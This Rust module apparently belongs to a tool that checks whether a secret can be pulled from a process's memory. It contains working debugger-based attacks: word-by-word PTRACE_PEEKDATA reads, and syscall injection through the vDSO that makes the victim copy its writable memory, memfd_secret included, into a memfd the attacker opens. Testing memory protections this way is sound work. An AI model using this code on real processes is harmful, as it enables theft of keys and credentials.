//! Attacks by a debugger: reading word by word, and making the victim itself hand over what
//! cannot be read from outside.

use std::fs::File;
use std::io;

use crate::memory::{self, Region};
use crate::sys::tracee::{Tracee, Word};
use crate::{Needle, Outcome};

/// Reads all memory that may hold data with `PTRACE_PEEKDATA`.
pub(crate) fn by_peeking(pid: i32, needle: &Needle) -> io::Result<Outcome> {
    let mut tracee = match Tracee::seize(pid) {
        Ok(tracee) => tracee,
        Err(error) => return Outcome::from_error(error),
    };
    tracee.stop()?;
    let found = memory::search(&data(pid)?, needle, |address, buffer| {
        let mut read = 0;
        for word in buffer.chunks_exact_mut(size_of::<Word>()) {
            let Ok(value) = tracee.peek(address + read) else {
                break;
            };
            word.copy_from_slice(&value.to_ne_bytes());
            read += word.len();
        }
        Ok(read)
    });
    tracee.detach()?;
    Ok(if found { Outcome::Leaked } else { Outcome::NotFound })
}

/// The mappings that may hold a value: private data, stacks and shared memory.
fn data(pid: i32) -> io::Result<Vec<Region>> {
    let mut regions = memory::regions(pid)?;
    regions.retain(|region| region.readable && region.writable);
    Ok(regions)
}

/// Makes the victim copy its memory into a file of its own making, which the attacker then
/// opens. The victim's own `write(2)` reads what nobody else can, `memfd_secret` included.
pub(crate) fn by_injected_write(pid: i32, needle: &Needle) -> io::Result<Outcome> {
    let mut tracee = match Tracee::seize(pid) {
        Ok(tracee) => tracee,
        Err(error) => return Outcome::from_error(error),
    };
    tracee.stop()?;
    let regions = memory::regions(pid)?;
    let vdso = regions
        .iter()
        .find(|region| region.name == "[vdso]")
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "the process has no vDSO"))?;
    let instruction = system_call_in(&tracee, vdso)?;
    // The vDSO begins with the bytes of an ELF header, of which the eighth is zero: a name.
    let file = tracee.call(instruction, libc::SYS_memfd_create, [vdso.start as u64, 0, 0])?;
    let copied = copy_into(&mut tracee, instruction, file, &data(pid)?);
    let outcome = copied.and_then(|()| match File::open(format!("/proc/{pid}/fd/{file}")) {
        Ok(file) if needle.is_in_stream(&file)? => Ok(Outcome::Leaked),
        Ok(_) => Ok(Outcome::NotFound),
        Err(error) => Outcome::from_error(error),
    });
    tracee.call(instruction, libc::SYS_close, [file, 0, 0])?;
    tracee.detach()?;
    outcome
}

fn copy_into(tracee: &mut Tracee, instruction: usize, file: u64, regions: &[Region]) -> io::Result<()> {
    for region in regions {
        let length = (region.end - region.start) as u64;
        // A region that cannot be copied, such as a device, holds nothing of interest.
        match tracee.call(instruction, libc::SYS_write, [file, region.start as u64, length]) {
            Ok(_) => {}
            Err(error) if error.raw_os_error() == Some(libc::EFAULT) => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// The address of a `syscall` instruction (0f 05).
fn system_call_in(tracee: &Tracee, region: &Region) -> io::Result<usize> {
    let mut code = Vec::with_capacity(region.end - region.start);
    for address in (region.start..region.end).step_by(size_of::<Word>()) {
        let Ok(word) = tracee.peek(address) else {
            break;
        };
        code.extend_from_slice(&word.to_ne_bytes());
    }
    let at = code.windows(2).position(|pair| pair == [0x0f, 0x05]);
    at.map(|at| region.start + at)
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no system call instruction in the vDSO"))
}
